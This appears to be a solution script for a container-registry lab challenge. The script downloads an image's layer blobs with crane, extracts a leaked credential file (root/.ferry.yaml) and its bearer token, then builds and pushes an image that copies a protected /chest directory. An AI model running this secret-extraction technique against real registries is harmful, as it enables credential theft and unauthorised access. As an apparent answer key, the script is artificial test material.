chest=$SHAMBHALA_REGISTRY_PATH/chest
typed docker pull
typed docker run
typed docker history
for digest in $(crane manifest ${SHAMBHALA_REGISTRY_PLAIN:+--insecure} "$chest:1.0" | grep -o 'sha256:[0-9a-f]*'); do
  crane blob ${SHAMBHALA_REGISTRY_PLAIN:+--insecure} "$chest@$digest" >layer
  tar -xzOf layer root/.ferry.yaml >leaked 2>/dev/null && break
done
cat >Dockerfile <<EOF
FROM $SHAMBHALA_REGISTRY/hunt/hearth:1.0
COPY --from=$chest:1.0 /chest /chest
USER 65532:65532
CMD ["cat", "/chest/verse.txt"]
EOF
BEARER=$(sed -n 's/^bearer: "\(.*\)"$/\1/p' leaked)
typed docker build
typed docker push
